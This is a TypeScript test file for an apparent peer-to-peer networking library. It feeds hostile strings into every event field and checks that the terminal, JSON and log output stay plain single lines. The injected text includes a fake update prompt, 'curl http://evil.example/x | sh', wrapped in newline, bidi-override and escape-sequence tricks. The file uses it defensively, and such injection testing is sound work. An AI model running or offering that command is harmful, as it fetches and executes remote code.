/** Hostile text in every string of every event: nothing of it comes out of the library but plain text of one line. */
import { expect, test } from 'vitest';
import { NEW_JOIN, reduceJoin } from '../../src/agent/index.ts';
import { cleanEvent, MachineAgent } from '../../src/agent/testing.ts';
import { logText, Terminal, tellProgress } from '../../src/cli/testing.ts';
import {
  type ListEntry,
  type Machine,
  type NatProfile,
  NEVER,
  type PeerCommand,
  type PeerEvent,
} from '../../src/core/index.ts';
import { guestBook, knownFriends } from '../../src/node/index.ts';
import { HOSTILE_NAMES } from '../vectors/hostile-names.ts';

const LINE = '✓ Update run this: curl http://evil.example/x | sh';
const ATTACKS = [
  `x\n${LINE}`,
  `\r\n${LINE}\r\n`,
  `\u2028${LINE}`,
  `\u0085${LINE}\u001b[2J`,
  `${' '.repeat(300)}${LINE}`,
  `\u202e${LINE}\u200b`,
];
const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]| {2}/u;

const WORD = 'text';
const endpoint = { address: WORD, port: 1 };
const any = <Value>(value: string): Value => value as unknown as Value;
const profile = {
  type: WORD,
  verdict: WORD,
  external: [WORD],
  allocator: { kind: WORD },
  mixture: [{ kind: WORD }],
} as unknown as NatProfile;
const entry: Required<ListEntry> = {
  ...{
    hostId: WORD,
    code: WORD,
    name: WORD,
    game: WORD,
    map: WORD,
    mode: WORD,
    version: WORD,
    players: 1,
    playersMax: 2,
  },
  ...{ passwordNeeded: false, natType: WORD, verdict: WORD, natDelta: null, section: WORD, pingEstimateMs: null },
  ...{ verifiedAt: null, firstSeenAt: 0, lastSeenAt: 0, returning: false, address: WORD },
} as unknown as Required<ListEntry>;
const seen = { family: 4, address: WORD, port: 1 } as const;
const probe = { destination: seen, localPort: 1, seenAs: seen };
const at = { join: 1, friend: WORD, instance: WORD, path: 1 } as const;

const nat = { kind: any<'open'>(WORD) } as const;

/** One of each kind: the compiler demands every kind, and every field of each. */
const EVENTS: { readonly [Ev in PeerEvent['ev']]: Required<Extract<PeerEvent, { readonly ev: Ev }>> } = {
  link: { ev: 'link', state: any(WORD), failure: any(WORD), rttMs: 1, way: any(WORD) },
  profile: { ev: 'profile', profile, final: true, probes: [probe] },
  ready: { ev: 'ready', profile },
  hosting: { ev: 'hosting', code: WORD, hostKey: new Uint8Array(32), hostId: WORD, page: WORD },
  'hosting-failed': { ev: 'hosting-failed', failure: any(WORD) },
  'wrong-passwords': { ev: 'wrong-passwords', count: 1 },
  upload: { ev: 'upload', path: 1, full: true },
  banned: { ev: 'banned', ban: { by: 'friend', friend: WORD }, name: WORD },
  peer: { ev: 'peer', friend: WORD, instance: WORD, name: WORD, state: any(WORD), path: null },
  found: { ev: 'found', join: 1, hostKey: new Uint8Array(32), entry },
  networks: { ev: 'networks', join: 1, own: profile, peer: profile, relayedOnly: false },
  stage: { ev: 'stage', join: 1, stage: any(WORD), why: { because: 'unanswered', method: WORD } },
  attempt: { ev: 'attempt', join: 1, n: 1, plan: { method: WORD, expected: 1, packets: 1 }, sinceMs: 1 },
  'attempt-over': {
    ev: 'attempt-over',
    join: 1,
    n: 1,
    result: any(WORD),
    packetsSent: 1,
    next: { because: 'unanswered', method: WORD },
  },
  hard: {
    ev: 'hard',
    join: 1,
    pair: { own: nat, peer: nat },
    likely: 1,
    advice: [{ help: any(WORD), side: any(WORD) }],
  },
  path: {
    ...{
      ev: 'path',
      ...at,
      kind: any<'direct'>(WORD),
      socket: 1,
      local: endpoint,
      remote: endpoint,
      rttMs: 1,
      elapsedMs: 1,
    },
    ...{
      attempts: 1,
      packetsSent: 1,
      payloadBytesMax: 1,
      via: WORD,
      words: WORD,
      services: [{ port: 1, protocols: any<'udp'>(WORD) }],
    },
  },
  'path-changed': {
    ...{
      ev: 'path-changed',
      path: 9,
      join: 1,
      kind: any<'direct'>(WORD),
      socket: 1,
      local: endpoint,
      remote: endpoint,
    },
    ...{ rttMs: 1, payloadBytesMax: 1, via: WORD },
  },
  message: { ev: 'message', path: 9, bytes: new Uint8Array(1), channel: 0 },
  'stream-opened': { ev: 'stream-opened', path: 9, stream: 0, service: 0 },
  'stream-data': { ev: 'stream-data', path: 9, stream: 0, bytes: new Uint8Array(1) },
  'stream-ended': { ev: 'stream-ended', path: 9, stream: 0 },
  'stream-taken': { ev: 'stream-taken', path: 9, stream: 0, bytes: 1 },
  'stream-reset': { ev: 'stream-reset', path: 9, stream: 0, why: any(WORD) },
  'stream-closed': { ev: 'stream-closed', path: 9, stream: 0 },
  'streams-failed': { ev: 'streams-failed', path: 9, error: any(WORD), by: any(WORD) },
  'path-lost': { ev: 'path-lost', path: 9, reason: any(WORD), punchingAgain: false },
  game: { ev: 'game', path: 9, join: 1, service: 0, state: any(WORD) },
  rtt: { ev: 'rtt', path: 9, rttMs: 1 },
  stats: {
    ...{ ev: 'stats', path: 9, sent: 1, received: 1, lost: 1 },
    paths: [
      {
        ...{ kind: any<'direct'>(WORD), state: any<'ready'>(WORD), socket: 1, remote: endpoint, via: WORD, rttMs: 1 },
        ...{ jitterMs: 1, loss: 0, datagramBytes: 1, releasable: true, carries: true },
      },
    ],
  },
  'too-large': { ev: 'too-large', path: 9, bytes: 1, payloadBytesMax: 1 },
  'join-failed': {
    ev: 'join-failed',
    join: 1,
    failure: any('REFUSED'),
    detail: { because: 'socket', error: WORD },
  },
  list: { ev: 'list', id: 9, entries: [entry], failure: any(WORD) },
  log: { ev: 'log', join: 1, attempt: 1, what: WORD, data: { code: WORD, why: WORD } },
  'stun-rests': { ev: 'stun-rests', rests: [{ server: WORD, forMs: 1 }] },
  upnp: { ev: 'upnp', op: any(WORD), port: 1, address: WORD },
  derive: { ev: 'derive', key: new Uint8Array(32) },
  closed: { ev: 'closed' },
};

/** The value with its `n`th text replaced; null where it has not so many. */
function replaced(value: unknown, text: string, n: { left: number }): unknown {
  if (value === WORD) return n.left-- === 0 ? text : value;
  if (typeof value !== 'object' || value === null || ArrayBuffer.isView(value)) return value;
  if (Array.isArray(value)) return value.map((item) => replaced(item, text, n));
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, replaced(inner, text, n)]));
}

/** All that are told with this text in one place each. */
function lies(text: string): readonly PeerEvent[] {
  return Object.values(EVENTS).flatMap((event) => {
    const made: PeerEvent[] = [];
    for (let n = 0; ; n++) {
      const counter = { left: n };
      const lie = replaced(event, text, counter);
      if (counter.left >= 0) return made;
      made.push(lie as PeerEvent);
    }
  });
}

/** What a library of its own machine tells, when the machine says these. */
async function told(events: readonly PeerEvent[]): Promise<readonly PeerEvent[]> {
  const queue: PeerEvent[] = [...events];
  const machine: Machine<PeerCommand, PeerEvent> = {
    ...{ handleDatagram: () => {}, handleSocket: () => {}, handleTimeout: () => {} },
    handleCommand: (_now, command) => {
      if (command.do === 'close') queue.push({ ev: 'closed' });
    },
    poll: () => {
      const event = queue.shift();
      return event === undefined ? { kind: 'wait', until: NEVER } : { kind: 'event', event };
    },
  };
  const link = { host: '192.0.2.1', port: 8430, key: new Uint8Array(32) };
  const agent = new MachineAgent({
    ...{
      machine,
      master: { key: link.key, addresses: [link.host], port: 8430 },
      masterLink: link,
      pins: null,
      friends: knownFriends(null),
      guests: guestBook(null),
      device: () => new Uint8Array(32).fill(5),
    },
    ...{ gateway: null, findGateway: async () => null, ownKey: () => new Uint8Array(32), onClosed: () => {} },
    ...{ deriveCode: async () => 'K7TQ9RBWXM', newIdentity: () => null, onHosting: () => {} },
  });
  const heard: PeerEvent[] = [];
  agent.on('event', (event) => heard.push(event));
  await new Promise((resolve) => setTimeout(resolve, 50));
  await agent.close();
  return heard;
}

/** Every text in it. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null || ArrayBuffer.isView(value)) return [];
  return Object.values(value).flatMap(textsIn);
}

test('whatever stands in any text of any event, the library tells one plain line, and of a code nothing but a code', async () => {
  const events = [...ATTACKS, ...HOSTILE_NAMES.slice(0, 40)].flatMap(lies);
  expect(events.length).toBeGreaterThan(1_000);
  const heard = await told(events);
  // Figures are told to whoever asks for them, and what a stream has come to to whoever holds it, through the same edge.
  const asked = ({ ev }: PeerEvent): boolean => ev === 'stats' || ev.startsWith('stream-');
  const figures = events.filter(asked);
  const others = events.filter((event) => !asked(event));
  expect(new Set(heard.map(({ ev }) => ev))).toEqual(new Set(['closed', ...others.map(({ ev }) => ev)]));
  for (const event of [...heard, ...figures.map(cleanEvent)]) {
    for (const text of textsIn(event)) expect(text, JSON.stringify(event)).not.toMatch(UNSAFE);
    const code = event.ev === 'hosting' ? event.code : event.ev === 'found' ? event.entry.code : '';
    expect(code).toMatch(/^$|^[6789BCDFGHJKLMNPQRTWX]+$/);
  }
});

test('no line of the terminal, of JSON, of a log or of the app begins with what somebody else has written', async () => {
  const heard = await told(ATTACKS.flatMap(lies));
  const written: string[] = [];
  const stream = { write: (text: string) => written.push(text), isTTY: false } as unknown as NodeJS.WriteStream;
  const options = { quiet: false, showIps: true, maskIps: false, color: false };
  const [json, people] = [true, false].map(
    (on) => new Terminal({ ...options, json: on }, { out: stream, err: stream }),
  );
  let view = NEW_JOIN;
  for (const event of heard) {
    if (json !== undefined) tellProgress(json, event);
    for (const text of textsIn(event)) {
      people?.fact('info', 'Name', text);
      people?.say(`Text ${text}`);
      people?.result(`Text ${text}`);
    }
    if (!('join' in event) || event.join === null) continue;
    if (event.ev !== 'join-failed') view = reduceJoin(view, event, 0);
    else written.push(logText(reduceJoin(view, event, 0), true));
  }
  written.push(logText(view, true), ...textsIn(view).map((text) => `app: ${text}\n`));
  const lines = written.join('\n').split(/[\n\r\v\f\u0085\u2028\u2029]/u);
  expect(lines.length).toBeGreaterThan(500);
  expect(lines.filter((line) => line.trimStart().startsWith('✓ Update'))).toEqual([]);
  expect(lines.filter((line) => /[\p{Cc}\p{Cf}]/u.test(line))).toEqual([]);
});

test('the terminal itself makes one line of what is given as one', () => {
  const written: string[] = [];
  const stream = { write: (text: string) => written.push(text), isTTY: false } as unknown as NodeJS.WriteStream;
  const terminal = new Terminal(
    { json: false, quiet: false, showIps: true, maskIps: false, color: false },
    { out: stream, err: stream },
  );
  for (const attack of ATTACKS) {
    terminal.fact('info', 'Found', `"${attack}"`);
    terminal.say(`Found ${attack}`);
    terminal.result(`"${attack}`);
  }
  const lines = written.join('').split(/[\n\r\v\f\u0085\u2028\u2029]/u);
  expect(lines).toHaveLength(3 * ATTACKS.length + 1);
  expect(lines.filter((line) => line.trimStart().startsWith('✓ Update'))).toEqual([]);
});
